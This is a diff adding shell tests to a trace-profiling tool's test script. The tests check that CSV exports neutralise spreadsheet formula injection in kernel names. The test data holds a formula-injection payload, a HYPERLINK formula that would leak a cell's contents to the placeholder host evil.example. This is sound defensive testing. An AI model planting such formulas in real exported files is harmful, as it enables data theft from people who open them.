@@ -387,6 +387,29 @@ done
 check_eq "-z 1: the trace has sequences whose every instance is an outlier" 1 \
   "$(q z1.rpd "$ZKEYS SELECT count(*) > 0 FROM (SELECT key FROM k WHERE sequenceId > 2 GROUP BY key HAVING min(outlier) = 1)")"
 
+# CSV formula injection: a kernel named =HYPERLINK(...) is a live link in a
+# spreadsheet; every CSV raptor writes prefixes it with ', numbers stay
+# numbers, --csv-raw writes the name as it is
+EVIL='=HYPERLINK("http://evil.example/?leak="&B2,"click")'
+cp base.rpd evil.rpd
+sqlite3 evil.rpd "UPDATE rocpd_string SET string = '$(printf '%s' "$EVIL" | sed "s/'/''/g")' WHERE id = (SELECT description_id FROM rocpd_op O JOIN rocpd_string T ON T.id = O.opType_id WHERE T.string = 'KernelExecution' GROUP BY description_id ORDER BY count(*) DESC, description_id LIMIT 1)"
+SAFE="\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"click\"\")\""
+RAW="\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"click\"\")\""
+raptor evil.rpd -k --format csv >evil_k.csv 2>/dev/null
+check "formula: -k --format csv neutralises the name" grep -qF ",$SAFE," evil_k.csv
+check_eq "formula: -k --format csv has no raw formula cell" 0 "$(grep -cF ",$RAW" evil_k.csv)"
+raptor evil.rpd -k --format csv --csv-raw >evil_raw.csv 2>/dev/null
+check "formula: --csv-raw writes it as it is" grep -qF ",$RAW," evil_raw.csv
+check_eq "formula: only the prefix differs" "$(sed "s/\"'=/\"=/g" evil_k.csv | cksum)" "$(cksum <evil_raw.csv)"
+check_rc "formula: --report --csv-dir exit 0" 0 raptor --report evil.rpd --csv-dir evil_rep -q
+check "formula: report kernel_summary neutralised" grep -qF "$SAFE," evil_rep/kernel_summary.csv
+check_eq "formula: report has no raw formula cell" 0 "$(cat evil_rep/*.csv | grep -c '^"=\|,"=')"
+raptor evil.rpd --format kernel-stats >evil_ks.csv 2>/dev/null
+check "formula: --format kernel-stats neutralised" grep -qF "$SAFE," evil_ks.csv
+raptor evil.rpd -c -v --gpu-summary -k --csv-dir evil_dir >/dev/null 2>&1
+check_eq "formula: --csv-dir has no raw formula cell, negative numbers kept" "0|1" \
+  "$(cat evil_dir/*.csv | grep -c '^"=\|,"=\|,=')|$(cat evil_dir/*.csv | grep -c ',-[0-9]' | sed 's/^[1-9][0-9]*$/1/')"
+
 # CSV is one table per stream (issue 11.7): several tables need --csv-dir
 check_rc "--format csv with the default three tables: usage error" 2 raptor base.rpd --format csv
 check "... says why" grep -q "one table per stream and 3 are selected" "$TESTDIR/stderr"
